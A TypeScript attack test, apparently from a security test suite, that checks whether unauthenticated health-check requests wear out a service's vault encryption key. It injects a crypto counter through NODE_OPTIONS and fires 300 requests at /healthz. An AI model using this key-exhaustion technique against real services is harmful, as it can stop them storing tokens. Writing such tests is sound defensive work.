import type { Attack } from './attack.ts'
import { startAttackedService } from './service.ts'

const REQUESTS = 300

/** Every encryption brings the key closer to its limit, at which the service stops storing tokens. */
export const attack: Attack = {
  name: 'wear out the vault key by health checks without a credential',
  item: 4,
  run: async ({ root }) => {
    // Counts encryptions, whatever the version calls them.
    const counter = `import crypto from 'node:crypto'
      import { syncBuiltinESMExports } from 'node:module'
      const { createCipheriv } = crypto
      let count = 0
      crypto.createCipheriv = (...args) => { count++; return createCipheriv(...args) }
      syncBuiltinESMExports()
      process.on('SIGUSR2', () => console.log('ENCRYPTIONS ' + count + ' END'))`
    const service = await startAttackedService(root, {
      NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(counter)}`
    })
    try {
      for (let i = 0; i < REQUESTS; i++) {
        await (await fetch(`${service.target.baseUrl}/healthz`)).text()
      }
      process.kill(service.pid, 'SIGUSR2')
      let found: RegExpExecArray | null = null
      while (found === null) {
        await new Promise((resolve) => setTimeout(resolve, 50))
        found = /ENCRYPTIONS (\d+) END/.exec(service.readLog())
      }
      const count = Number(found[1])
      return {
        reached: count >= REQUESTS,
        evidence: `${REQUESTS} health checks, ${count} encryptions since the start`
      }
    } finally {
      await service.stop()
    }
  }
}
